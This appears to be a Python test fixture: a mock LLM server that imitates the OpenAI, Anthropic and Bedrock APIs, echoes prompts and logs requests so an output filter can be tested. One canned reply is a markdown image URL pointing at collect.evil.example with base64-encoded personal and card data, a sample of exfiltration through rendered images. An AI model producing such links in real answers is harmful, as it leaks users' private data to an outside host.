"""A model that says what it was asked, in the words of OpenAI, Anthropic or Bedrock Converse.

It knows two things that were not in the request, for the filter of answers to find. `GET /requests` returns what has
reached it.
"""

from __future__ import annotations

import json

from web import Handler, serve

KNOWN = {
    "Whom do I ask?": "Ask grace@example.com.",
    "Draw me a check mark.":
        "![ok](https://collect.evil.example/p.png?data=Z3JhY2VAZXhhbXBsZS5jb20gNDExMSAxMTExIDExMTE)",
}
JSON = {"content-type": "application/json"}


class Model:
    """The model's server."""

    def __init__(self) -> None:
        requests: list[dict] = []

        class Api(Handler):
            """Answers, and keeps what came."""

            def do_GET(self) -> None:  # noqa: N802 (the name is the standard library's)
                """`/requests`"""
                self.answer(200, json.dumps(requests).encode(), JSON)

            def do_POST(self) -> None:  # noqa: N802
                """Every other path."""
                body = json.loads(self.read())
                headers = {name.lower(): value for name, value in self.headers.items()}
                requests.append({"path": self.path, "headers": headers, "body": body})
                self.answer(200, json.dumps(answer(self.path, body)).encode(), JSON)

        self.url = f"http://{serve(Api)}"


def answer(path: str, body: dict) -> dict:
    """Returns what the model says."""
    asked = last_text(body)
    said = KNOWN.get(asked, f"You said: {asked}")
    if path.endswith("/converse"):
        return {"output": {"message": {"role": "assistant", "content": [{"text": said}]}}, "stopReason": "end_turn",
                "usage": {"inputTokens": 1, "outputTokens": 1, "totalTokens": 2}, "metrics": {"latencyMs": 1}}
    if path.endswith(("/invoke", "/messages")) or "anthropic_version" in body:
        return {"id": "msg_1", "type": "message", "role": "assistant", "model": "local",
                "content": [{"type": "text", "text": said}], "stop_reason": "end_turn"}
    return {"id": "chatcmpl-1", "object": "chat.completion", "created": 1, "model": "local", "choices": [
        {"index": 0, "finish_reason": "stop", "message": {"role": "assistant", "content": said}}]}


def last_text(body: dict) -> str:
    """Returns the text that was said last."""
    messages = body.get("messages") or body.get("input") or body.get("prompt") or ""
    content = messages if isinstance(messages, str) else messages[-1].get("content", "")
    if isinstance(content, str):
        return content
    return " ".join(part.get("text", "") for part in content if isinstance(part, dict))
